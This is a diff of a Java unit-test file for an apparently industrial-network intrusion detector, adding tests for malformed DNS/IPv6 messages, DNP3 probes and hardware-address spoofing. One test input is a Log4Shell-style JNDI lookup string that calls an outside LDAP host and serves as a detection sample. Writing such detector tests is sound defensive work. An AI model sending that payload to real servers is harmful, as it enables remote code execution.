@@ -6,12 +6,14 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 import weir.analysis.detect.behaviour.AddressConflicts;
+import weir.analysis.detect.behaviour.BorrowedAddresses;
 import weir.analysis.detect.behaviour.DeviceTalk;
 import weir.analysis.detect.behaviour.Newcomers;
 import weir.analysis.detect.rule.DeedRules;
 import weir.analysis.detect.rule.FunctionScans;
 import weir.analysis.detect.rule.Interrogations;
 import weir.analysis.detect.rule.Malformed;
+import weir.analysis.detect.rule.Probes;
 import weir.analysis.detect.rule.Writes;
 import weir.analysis.detect.threat.Exfiltration;
 import weir.analysis.detect.threat.Exploits;
@@ -45,7 +47,7 @@ class RulesTest {
     void what_is_done_to_a_device_is_named() {
         assertThat(deed("s7comm", Verb.CONTROL, "plc_stop")).containsExactly("PR-01");
         assertThat(deed("s7comm", Verb.PROGRAM, "request_download")).containsExactly("PR-02");
-        assertThat(deed("umas", Verb.PROGRAM, "upload_block")).containsExactly("PR-03");
+        assertThat(deed("umas", Verb.PROGRAM, "download_block")).containsExactly("PR-03");
         assertThat(deed("cip", Verb.FIRMWARE, "firmware_update")).containsExactly("PR-04");
         assertThat(deed("dnp3", Verb.CONTROL, "cold_restart")).containsExactly("PR-05");
         assertThat(deed("fins", Verb.CONTROL, "forced_set_reset")).containsExactly("PR-07");
@@ -245,6 +247,60 @@ class RulesTest {
         assertThat(plant.says("http", STATION, Attribute.SOFTWARE, "${jndi:ldap://10.0.0.9/a}")
                         .detections())
                 .containsExactly("IT-07");
+    }
+
+    @Test
+    void a_message_that_breaks_a_limit_of_dns_or_ip_is_grave_for_a_device_of_the_plant_alone() {
+        for (String[] sign :
+                new String[][] {{"dns", "name_too_long"}, {"dns", "record_beyond_length"}, {"ipv6", "routing_header_0"}
+                }) {
+            Staged office = stage(new Exploits()).speaks("http").violates(sign[0], sign[1]);
+            assertThat(office.findings().getFirst().severity()).isEqualTo(Severity.MEDIUM);
+            assertThat(office.findings().getFirst().techniques()).containsExactly("T0866");
+            Staged plant = stage(new Exploits()).speaks("modbus").violates(sign[0], sign[1]);
+            assertThat(plant.findings().getFirst().severity()).isEqualTo(Severity.HIGH);
+        }
+        assertThat(stage(new Exploits()).violates("dns", "malformed").detections())
+                .isEmpty();
+    }
+
+    @Test
+    void a_read_of_nothing_and_addresses_tried_out_are_told_as_probes() {
+        Detector[] both = {new Probes(), new Malformed()};
+        assertThat(stage(both).violates("dnp3", "read_of_nothing").detections()).containsExactly("PR-20");
+        assertThat(stage(both).violates("dnp3", "many_masters").detections()).containsExactly("PR-18");
+        assertThat(stage(new Probes()).violates("dnp3", "truncated").detections())
+                .isEmpty();
+    }
+
+    @Test
+    void a_host_that_sends_from_another_hardware_address_than_it_is_made_with_is_told() {
+        String own = "fe80::210:18ff:fecb:8c13";
+        Staged plant =
+                new Staged(new AddressConflicts(), new BorrowedAddresses()).between(STATION, "224.0.0.251", 5353);
+        plant.on("00:10:18:cb:8c:13", "01:00:5e:00:00:fb").says("mdns", STATION, Attribute.NAME, "host.local");
+        plant.says("mdns", own, Attribute.NAME, "host.local");
+        plant.on("00:18:64:02:30:fc", "01:00:5e:00:00:fb").says("mdns", own, Attribute.NAME, "other.local");
+        plant.says("mdns", "fe80::1234:5678:9abc:def0", Attribute.NAME, "host.local");
+        assertThat(plant.detections()).isEmpty();
+        plant.says("mdns", own, Attribute.NAME, "host.local");
+        assertThat(plant.detections()).containsExactly("BL-07");
+        assertThat(plant.findings().getFirst().severity()).isEqualTo(Severity.MEDIUM);
+        assertThat(plant.findings().getFirst().seen()).contains("is 00:10:18:cb:8c:13");
+        plant.says("arp", "00:10:18:cb:8c:13", Attribute.IP, OTHER).after(7200);
+        plant.says("mdns", own, Attribute.NAME, "host.local");
+        assertThat(plant.findings().getLast().severity()).isEqualTo(Severity.HIGH);
+    }
+
+    @Test
+    void a_host_that_always_sent_from_another_hardware_address_is_left_alone() {
+        Staged plant = new Staged(new BorrowedAddresses()).learn().between(STATION, "224.0.0.251", 5353);
+        for (int i = 0; i < 2; i++) {
+            plant.on("00:18:64:02:30:fc", "01:00:5e:00:00:fb").says("mdns", STATION, Attribute.NAME, "host.local");
+            plant.says("mdns", "fe80::210:18ff:fecb:8c13", Attribute.NAME, "host.local")
+                    .judge();
+        }
+        assertThat(plant.detections()).isEmpty();
     }
 
     @Test
